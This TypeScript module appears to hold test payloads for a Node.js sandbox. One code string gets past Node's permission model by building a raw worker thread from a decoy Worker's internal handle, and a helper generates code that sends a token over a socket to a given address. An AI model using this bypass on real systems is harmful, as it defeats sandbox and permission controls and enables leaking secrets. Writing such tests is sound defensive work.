/**
 * `rawThread(code, data)` starts a thread without the guard and Node's permissions: by the class that Worker takes from its
 * handle, as lib/internal/worker.js of Node 24 does; where that is closed, by `execArgv`. It prints by `writeSync(1, …)`.
 */
export const RAW_THREAD = `
import { MessageChannel, Worker } from 'node:worker_threads';
function rawThread(code, workerData = null) {
  const decoy = new Worker('', { eval: true });
  const handle = Object.getOwnPropertySymbols(decoy).map((key) => decoy[key]).find((each) => each && each.startThread);
  const Thread = handle && handle.constructor;
  if (typeof Thread !== 'function' || Thread === Object) {
    return new Worker(code, { eval: true, execArgv: [], workerData });
  }
  const thread = new Thread(null, null, [], new Float64Array(4), true, false, false);
  const [own, main] = [new MessageChannel(), new MessageChannel()];
  thread.onexit = () => {};
  thread.messagePort.on('message', () => {});
  thread.messagePort.postMessage(
    {
      type: 'loadScript', filename: code, doEval: 'classic', argv: [], workerData, environmentData: new Map(),
      cwdCounter: new Uint32Array(new SharedArrayBuffer(4)), publicPort: own.port2, mainThreadPort: main.port2,
      threadId: 99, manifestURL: null, manifestSrc: null, hasStdin: false,
    },
    [own.port2, main.port2],
  );
  thread.startThread();
  thread.ref();
}
`;

export function sendsTo(address: object | string, token: string): string {
  return `
import { connect } from 'node:net';
const socket = connect(${JSON.stringify(address)});
socket.on('error', (error) => console.log(error.message)).end('${token}\\n');
`;
}
